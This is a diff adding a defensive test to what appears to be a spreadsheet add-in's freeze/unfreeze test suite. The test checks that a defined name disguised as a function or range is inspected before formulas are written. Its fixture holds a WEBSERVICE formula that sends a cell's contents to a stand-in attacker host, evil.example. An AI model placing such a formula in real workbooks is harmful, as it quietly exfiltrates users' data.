@@ -72,6 +72,21 @@ test('a forged freeze log makes "Changes since the freeze" run nothing that reac
   expect(written).toEqual(['=KER.PROP(Model!A1,"field 1")']);
 });
 
+test.each(['ABS', 'Q1.Sales'])(
+  'a name that hides as %s is looked into before a formula is written',
+  async (name) => {
+    const model = new WorkbookModel(() => 7);
+    model.names.set(name, '=WEBSERVICE("https://evil.example/?"&Model!$A$1)');
+    model.type('B1', `=KER.PROP(${name},"x")`);
+    startOffice(model);
+    await freeze({ scope: 'workbook', known: NOTHING_KNOWN, marker, now: 0 }, UNWATCHED);
+    expect(await planUnfreeze(marker, UNWATCHED)).toEqual({
+      formulas: [],
+      left: [{ address: 'Model!B1', reason: 'outside' }],
+    });
+  },
+);
+
 test('a row that was changed in the log, or written elsewhere, is told apart by its mark', async () => {
   const model = await forgedModel();
   model.type('KER Freeze Log!B2', `'=KER.PROP(A1,"another field")`);
